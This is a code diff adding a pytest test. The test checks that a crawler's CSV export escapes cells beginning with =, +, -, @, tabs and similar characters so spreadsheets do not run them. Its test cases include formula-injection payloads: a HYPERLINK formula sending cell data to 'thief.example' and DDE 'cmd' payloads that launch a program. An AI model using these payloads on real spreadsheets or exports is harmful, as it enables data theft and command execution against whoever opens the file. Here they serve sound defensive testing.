@@ -22,6 +22,7 @@ from trafilatura.xml import validate_tei
 
 from crawler.article import Article, Provenance, Source
 from crawler.delivery.doubtful_fields import without_doubtful_fields
+from crawler.delivery.flat import csv_row, flat_row
 from crawler.delivery.format import FormatUnusable, Options
 from crawler.delivery.respect import parse_respect, permitted
 from crawler.errors import ArgumentInvalid
@@ -150,6 +151,30 @@ CSV_COLUMNS = (  # readers go by the names; the order is kept all the same, and 
     ",modified,modified_offset,section,tags,language,images,kind,free,syndicated_from,cluster,entries,rights,pages"
     ",memento,digest,provenance"
 )
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://thief.example/?"&A1)', "'="),
+        ("=cmd|'/C calc'!A0", "'="),
+        ("+1+cmd|' /C calc'!A0", "'+"),
+        ("-2+3+cmd|' /C calc'!A0", "'-"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
+        ("\t=1+1", "'\t"),
+        ("\r=1+1", "'\r"),
+        ("＝1+1", "'＝"),
+        ("- Nobody came, she said", "'-"),
+        ("-12.5", "-1"),
+        ("Crane = light", "Cr"),
+        ("'quoted'", "'q"),
+    ],
+)
+def test_no_text_of_csv_is_run_by_a_spreadsheet(text: str, cell: str) -> None:
+    (written,) = csv_row({"headline": text}, ["headline"])
+    assert written.startswith(cell)
+    assert written.removeprefix("'") == text.removeprefix("'")
+    assert flat_row({"headline": text}, ["headline"]) == [text]
 
 
 def test_the_columns_of_csv_keep_their_order(tmp_path: Path) -> None:
